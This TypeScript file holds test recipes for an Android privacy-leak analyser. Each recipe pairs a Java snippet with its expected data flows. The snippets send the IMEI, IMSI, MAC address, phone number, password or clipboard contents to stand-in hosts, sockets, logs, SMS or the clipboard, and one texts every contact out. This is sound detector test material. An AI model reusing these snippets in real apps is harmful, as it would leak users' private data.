import type { Recipe } from '../recipe.ts';

export const flowSinks: readonly Recipe[] = [
  {
    id: 'flow-sink-third-party-sdk',
    about: 'As a parameter of an analytics SDK, in a map.',
    java: `package com.loukou.b;
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); HashMap m = new HashMap(); m.put("phone", ((TelephonyManager) getSystemService("phone")).getLine1Number()); MobclickAgent.onEvent(this, "login", m); } }
package com.umeng.analytics;
class MobclickAgent { static void onEvent(Context c, String id, Map m) { EventQueue.QUEUE.add(m); } }
class EventQueue { static final List QUEUE = new ArrayList(); }`,
    truth: {
      flows: [
        {
          data: 'phone_number',
          from: 'TelephonyManager.getLine1Number/0 @ MainActivity.onCreate',
          to: 'MobclickAgent.onEvent/3 @ MainActivity.onCreate',
          sink: 'third-party-sdk',
        },
      ],
    },
  },
  {
    id: 'flow-sink-file-writer',
    about: 'A FileWriter on external storage, through a BufferedWriter.',
    java: `package com.loukou.c;
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); try { BufferedWriter w = new BufferedWriter(new FileWriter(new File(Environment.getExternalStorageDirectory(), "id.txt"))); w.write(((TelephonyManager) getSystemService("phone")).getDeviceId()); w.close(); } catch (IOException e) { setTitle("x"); } } }`,
    truth: {
      flows: [
        {
          data: 'imei',
          from: 'TelephonyManager.getDeviceId/0 @ MainActivity.onCreate',
          to: 'BufferedWriter.write/1|Writer.write/1 @ MainActivity.onCreate',
          sink: 'file',
        },
      ],
    },
  },
  {
    id: 'flow-sink-socket',
    about: 'Over a plain socket with a DataOutputStream.',
    java: `package com.loukou.d;
class Sender extends Thread { final String s; Sender(String x) { s = x; } public void run() { try { Socket k = new Socket("203.0.113.9", 9000); DataOutputStream o = new DataOutputStream(k.getOutputStream()); o.writeUTF(s); o.flush(); } catch (IOException e) { e.printStackTrace(); } } }
class App extends Application { public void onCreate() { super.onCreate(); new Sender(((TelephonyManager) getSystemService("phone")).getSubscriberId()).start(); } }`,
    manifest: { application: { name: '.App' } },
    truth: {
      flows: [
        {
          data: 'imsi',
          from: 'TelephonyManager.getSubscriberId/0 @ App.onCreate',
          to: 'DataOutputStream.writeUTF/1 @ Sender.run',
          sink: 'network',
        },
      ],
    },
  },
  {
    id: 'flow-sink-okhttp-form',
    about: 'OkHttp: a form body and a header, asynchronous.',
    java: `package com.loukou.e;
class Api {
  static void report(String id) {
    RequestBody body = new FormBody$Builder().add("id", id).build();
    Request r = new Request$Builder().url("https://api.example.cn/r").post(body).build();
    new OkHttpClient().newCall(r).enqueue(new Callback() { public void onResponse(Call c, Response x) { } public void onFailure(Call c, IOException e) { } });
  }
}
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); Api.report(((WifiManager) getSystemService("wifi")).getConnectionInfo().getMacAddress()); } }`,
    truth: {
      flows: [
        {
          data: 'mac',
          from: 'WifiInfo.getMacAddress/0 @ MainActivity.onCreate',
          to: 'FormBody$Builder.add/2|Request$Builder.post/1|OkHttpClient.newCall/1|Call.enqueue/1 @ Api.report',
          sink: 'network',
        },
      ],
    },
  },
  {
    id: 'flow-sink-clipboard',
    about: 'The phone number is put on the clipboard, where every app sees it.',
    java: `package com.loukou.f;
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); ClipboardManager cm = (ClipboardManager) getSystemService("clipboard"); cm.setPrimaryClip(ClipData.newPlainText("n", ((TelephonyManager) getSystemService("phone")).getLine1Number())); } }`,
    truth: {
      flows: [
        {
          data: 'phone_number',
          from: 'TelephonyManager.getLine1Number/0 @ MainActivity.onCreate',
          to: 'ClipboardManager.setPrimaryClip/1 @ MainActivity.onCreate',
          sink: 'clipboard',
        },
      ],
    },
  },
  {
    id: 'flow-source-password-field',
    about: 'What is typed into a password field goes to the log; the hint of the other field does not matter.',
    java: `package com.loukou.g;
class LoginActivity extends Activity {
  protected void onCreate(Bundle b) { super.onCreate(b); setContentView(R.layout.login); findViewById(R.id.go).setOnClickListener(v -> go()); }
  void go() { EditText pw = (EditText) findViewById(R.id.password); String s = pw.getText().toString(); Log.d("login", "pw " + s); }
}`,
    manifest: {
      launcher: '.LoginActivity',
      resources: { layout: { login: { file: 'res/layout/login.xml' } }, id: { password: false, go: false } },
      files: {
        'res/layout/login.xml':
          '<LinearLayout><EditText android:id="@+id/password" android:hint="密码" android:inputType="0x81"/><Button android:id="@+id/go" android:text="登录"/></LinearLayout>',
      },
    },
    truth: { flows: [{ data: 'password', from: 'EditText.getText/0 @ LoginActivity.go', to: 'Log.d/2 @ LoginActivity.go', sink: 'log' }] },
  },
  {
    id: 'flow-source-contacts-cursor',
    about: 'Contacts out of a cursor, each number into an SMS.',
    java: `package com.loukou.h;
class MainActivity extends Activity {
  protected void onCreate(Bundle b) {
    super.onCreate(b);
    Cursor c = getContentResolver().query(ContactsContract$CommonDataKinds$Phone.CONTENT_URI, null, null, null, null);
    while (c.moveToNext()) { String n = c.getString(c.getColumnIndex("data1")); SmsManager.getDefault().sendTextMessage("10690000", null, n, null, null); }
    c.close();
  }
}`,
    truth: {
      flows: [
        {
          data: 'contacts',
          from: 'ContentResolver.query/5|Cursor.getString/1 @ MainActivity.onCreate',
          to: 'SmsManager.sendTextMessage/5 @ MainActivity.onCreate',
          sink: 'sms',
        },
      ],
    },
  },
  {
    id: 'flow-source-clipboard-url',
    about: 'The clipboard into the query of an address.',
    java: `package com.loukou.i;
class MainActivity extends Activity {
  protected void onResume() { super.onResume(); ClipData d = ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip(); if (d == null) return; String t = d.getItemAt(0).getText().toString(); new Thread(new Hit(t)).start(); }
}
class Hit implements Runnable { final String text; Hit(String s) { text = s; } public void run() { try { new URL("https://c.example.cn/q?t=" + URLEncoder.encode(text, "UTF-8")).openStream(); } catch (IOException e) { setQuiet(); } } void setQuiet() { } }`,
    truth: {
      flows: [
        {
          data: 'clipboard',
          from: 'ClipboardManager.getPrimaryClip/0 @ MainActivity.onResume',
          to: 'URL.<init>/1|URL.openStream/0 @ Hit.run',
          sink: 'network',
        },
      ],
    },
  },
  {
    id: 'flow-sink-hashed',
    about: 'Hashed before it is sent: a digest of an identifier is still an identifier, so it is a flow.',
    java: `package com.loukou.k;
class Hash { static String md5(String s) { try { byte[] d = MessageDigest.getInstance("MD5").digest(s.getBytes()); StringBuilder b = new StringBuilder(); for (int i = 0; i < d.length; i++) { b.append(Integer.toHexString(d[i] & 255)); } return b.toString(); } catch (Exception e) { return ""; } } }
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); Log.i("k", Hash.md5(((TelephonyManager) getSystemService("phone")).getDeviceId())); } }`,
    truth: {
      flows: [
        {
          data: 'imei',
          from: 'TelephonyManager.getDeviceId/0 @ MainActivity.onCreate',
          to: 'Log.i/2 @ MainActivity.onCreate',
          sink: 'log',
        },
      ],
    },
  },
  {
    id: 'flow-sink-reflective-log',
    about: 'The sink is called by reflection with constant names.',
    java: `package com.loukou.l;
class MainActivity extends Activity {
  protected void onCreate(Bundle b) {
    super.onCreate(b);
    String id = ((TelephonyManager) getSystemService("phone")).getDeviceId();
    try { Class.forName("com.loukou.l.Out").getMethod("print", new Class[]{String.class}).invoke(null, new Object[]{id}); } catch (Exception e) { setTitle("x"); }
  }
}
class Out { public static void print(String s) { Log.v("l", s); } }`,
    truth: {
      flows: [{ data: 'imei', from: 'TelephonyManager.getDeviceId/0 @ MainActivity.onCreate', to: 'Log.v/2 @ Out.print', sink: 'log' }],
    },
  },
];
